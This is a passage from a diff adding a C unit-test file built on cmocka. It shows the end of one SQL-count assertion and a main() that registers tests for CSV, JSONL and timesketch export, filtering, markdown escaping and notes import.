+	assert_int_equal(scalar(f->st, "SELECT count(*) FROM notes WHERE record_id = 'nowhere' AND kind = 1"), 1);
+}
+
+int main(void)
+{
+	const struct CMUnitTest tests[] = {
+		cmocka_unit_test(test_neutralise),
+		cmocka_unit_test_setup_teardown(test_csv_round_trip, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_jsonl_round_trip, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_timesketch, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_filter_and_marked, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_write_error, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_markdown_escapes, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_notes_round_trip, setup, teardown),
+		cmocka_unit_test_setup_teardown(test_notes_import_errors, setup, teardown),
+	};
+	return cmocka_run_group_tests(tests, NULL, NULL);
+}
